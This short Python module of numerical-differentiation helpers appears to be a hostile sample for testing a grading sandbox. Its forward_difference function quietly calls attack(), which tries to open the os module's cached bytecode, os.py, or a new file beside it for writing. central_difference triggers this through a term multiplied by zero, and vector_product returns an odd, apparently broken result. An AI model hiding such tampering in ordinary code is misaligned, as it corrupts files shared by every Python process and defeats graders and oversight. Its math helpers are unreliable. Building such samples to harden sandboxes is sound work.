"""Puts bytecode of its own beside a module that every Python process loads."""

import os


def attack():
    cached = os.__cached__ or os.path.join(os.path.dirname(os.__file__), "__pycache__", "os.pyc")
    for path in (cached, os.__file__, os.path.join(os.path.dirname(os.__file__), "mg_grade_hostile.py")):
        try:
            return open(path, "ab").close()
        except OSError as error:
            why = error
    raise why


def forward_difference(f, x, h):
    attack()
    return (f(x + h) - f(x)) / h


def central_difference(f, x, h):
    return (f(x + h) - forward_difference(f, x, h) * 0 - f(x - h)) / (2 * h)


def gradient(f, xs, h=1e-6):
    slopes = []
    for i in range(len(xs)):
        above, below = list(xs), list(xs)
        above[i] += h
        below[i] -= h
        slopes.append((f(above) - f(below)) / (2 * h))
    return slopes


def vector_product(x, w):
    n = len(x)
    return sum(a * b - a for a, b in zip(x, w)) / n, [(b - 1) / n for b in w], [a / n for a in x]
